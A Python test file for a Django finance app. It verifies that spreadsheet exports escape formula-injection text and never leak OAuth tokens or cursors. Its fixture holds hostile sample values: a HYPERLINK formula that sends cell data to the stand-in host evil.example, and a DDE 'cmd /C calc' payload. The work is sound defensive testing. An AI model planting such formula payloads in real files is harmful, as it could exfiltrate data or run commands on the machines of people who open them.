"""Exports an auditor opens in a spreadsheet: text that a spreadsheet would run is escaped
(OWASP's rule), and no export offers or writes token material, cursors or keys."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.utils import timezone
from openpyxl import load_workbook  # type: ignore[import-untyped]

from connectors.oauth import TokenSet
from reconciliation.admin.resource_base import escape_cell
from reconciliation.connections.tokens import store_tokens
from reconciliation.models import Connection
from reconciliation.models import Decision
from reconciliation.models import DecisionAction
from reconciliation.models import Provider
from reconciliation.models import Receivable
from reconciliation.models import Role
from reconciliation.models import RoutingRule
from reconciliation.models import Workspace
from tests.factories import make_connection
from tests.factories import make_document
from tests.factories import make_invoice
from tests.factories import make_match
from tests.factories import make_transaction
from tests.factories import make_user
from tests.factories import make_vendor
from tests.helpers import CSV_FORMAT
from tests.helpers import XLSX_FORMAT
from tests.helpers import export_every_column
from tests.helpers import logged_in_client

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'
DDE_FILE = '=cmd|" /C calc"!A0.pdf'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
ACCESS_TOKEN = "qonto-access-token-s3cr3t-0123456789"
REFRESH_TOKEN = "qonto-refresh-token-s3cr3t-9876543210"
EXPORTABLE = (
    "document",
    "vendor",
    "invoice",
    "transaction",
    "receivable",
    "match",
    "connection",
    "decision",
    "routingrule",
)


def _csv_cells(response: Any) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
        for cell in row
    ]


def _xlsx_cells(response: Any) -> list[Any]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def hostile(workspace: Workspace) -> Workspace:
    """A workspace whose documents carry names that are formulas."""
    document = make_document(workspace, original_name=DDE_FILE, source_path="/In/" + DDE_FILE)
    vendor = make_vendor(workspace, name=HYPERLINK, aliases=["@SUM(1+1)"])
    invoice = make_invoice(
        workspace, document=document, vendor=vendor, supplier_name=HYPERLINK, number="+1+cmd"
    )
    transaction = make_transaction(
        workspace,
        counterparty_name="@SUM(A1:A9)",
        reference="\tHYPERLINK",
        amount=Decimal("-12.50"),
    )
    Receivable.objects.create(
        workspace=workspace,
        reference="-2+3+cmd|' /C calc'!A0",
        customer_name="\r=1+1",
        amount=Decimal("100.00"),
        currency="EUR",
    )
    make_match(workspace, document=document, invoice=invoice, transaction=transaction)
    Decision.objects.create(
        workspace=workspace, action=DecisionAction.APPROVE, invoice=invoice, reason=HYPERLINK
    )
    RoutingRule.objects.create(workspace=workspace, name="=1+2")
    connection = make_connection(workspace, Provider.QONTO, account_label=HYPERLINK)
    connection.cursor = "cursor-page-token-abcdef"
    connection.save()
    store_tokens(
        connection,
        TokenSet(
            access_token=ACCESS_TOKEN,
            refresh_token=REFRESH_TOKEN,
            expires_at=timezone.now() + timedelta(hours=1),
            scopes=("offline_access",),
        ),
    )
    return workspace


@pytest.mark.parametrize("model", EXPORTABLE)
def test_csv_exports_have_no_formula_cell(hostile: Workspace, model: str) -> None:
    auditor = make_user("audrey", workspace=hostile, role=Role.AUDITOR)
    cells = _csv_cells(
        export_every_column(logged_in_client(auditor), model, file_format=CSV_FORMAT)
    )
    live = [c for c in cells if c.startswith(TRIGGERS) and not PLAIN_NUMBER.match(c)]
    assert live == []


@pytest.mark.parametrize("model", EXPORTABLE)
def test_xlsx_exports_have_no_formula_cell(hostile: Workspace, model: str) -> None:
    auditor = make_user("audrey", workspace=hostile, role=Role.AUDITOR)
    cells = _xlsx_cells(
        export_every_column(logged_in_client(auditor), model, file_format=XLSX_FORMAT)
    )
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    live = [
        c.value
        for c in cells
        if isinstance(c.value, str)
        and c.value.startswith(TRIGGERS)
        and not PLAIN_NUMBER.match(c.value)
    ]
    assert live == []


def test_the_hostile_names_are_exported_as_text(hostile: Workspace) -> None:
    auditor = make_user("audrey", workspace=hostile, role=Role.AUDITOR)
    documents = _csv_cells(
        export_every_column(logged_in_client(auditor), "document", file_format=CSV_FORMAT)
    )
    assert "'" + DDE_FILE in documents
    vendors = [
        c.value
        for c in _xlsx_cells(
            export_every_column(logged_in_client(auditor), "vendor", file_format=XLSX_FORMAT)
        )
    ]
    assert "'" + HYPERLINK in vendors
    transactions = _csv_cells(
        export_every_column(logged_in_client(auditor), "transaction", file_format=CSV_FORMAT)
    )
    assert "'@SUM(A1:A9)" in transactions
    assert [c for c in transactions if "12.5" in c] == ["-12.50"]  # a number stays a number


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
def test_the_connection_export_holds_no_token_material(
    hostile: Workspace, file_format: str
) -> None:
    auditor = make_user("audrey", workspace=hostile, role=Role.AUDITOR)
    client = logged_in_client(auditor)
    page = client.get("/admin/reconciliation/connection/export/").content.decode()
    for name in ("ciphertext", "cursor", "wrapped", "access_token", "refresh_token"):
        assert name not in page
    connection = Connection.objects.get(account_label=HYPERLINK, workspace=hostile)
    forged = {
        "connectionresource_access_token_ciphertext": "on",
        "connectionresource_refresh_token_ciphertext": "on",
        "connectionresource_cursor": "on",
    }
    response = export_every_column(client, "connection", file_format=file_format, extra=forged)
    body = response.content
    text = body.decode("latin-1")
    for secret in (ACCESS_TOKEN, REFRESH_TOKEN, "cursor-page-token-abcdef"):
        assert secret not in text
    for ciphertext in (connection.access_token_ciphertext, connection.refresh_token_ciphertext):
        assert bytes(ciphertext) not in body
        assert bytes(ciphertext).hex() not in text


def test_escape_cell_follows_owasp() -> None:
    assert [escape_cell(v) for v in ("=1", "+1+1", "-1+1", "@A1", "\tx", "\rx")] == [
        "'=1",
        "'+1+1",
        "'-1+1",
        "'@A1",
        "'\tx",
        "'\rx",
    ]
    assert [escape_cell(v) for v in ("-12.50", "+33 1 23", "Acme", 12, None)] == [
        "-12.50",
        "+33 1 23",
        "Acme",
        12,
        None,
    ]
